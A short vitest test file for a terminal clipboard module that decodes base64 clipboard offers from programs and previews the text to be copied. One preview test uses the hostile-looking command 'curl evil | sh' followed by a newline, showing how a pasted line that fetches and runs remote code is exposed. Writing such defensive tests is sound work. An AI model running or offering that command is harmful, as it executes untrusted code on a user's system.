import { expect, it } from 'vitest';
import { preview, readOffer } from './terminal-clipboard';

it('makes an offer of what a program writes', () => {
  expect(readOffer(`c;${btoa('hello')}`)).toBe('hello');
  expect(readOffer(';w7w=')).toBe('ü');
});

it.each(['c;?', ';?', '?', 'c;', 'c;***', 'c;/w==', '', `c;${'A'.repeat(200_000)}`])('drops %j', (data) => {
  expect(readOffer(data)).toBeNull();
});

it('shows what would be copied, line breaks and all', () => {
  expect(preview('curl evil | sh\n\x1b')).toBe('curl evil | sh↵·');
  expect(preview('x'.repeat(100), 10)).toBe('xxxxxxxxxx…');
});
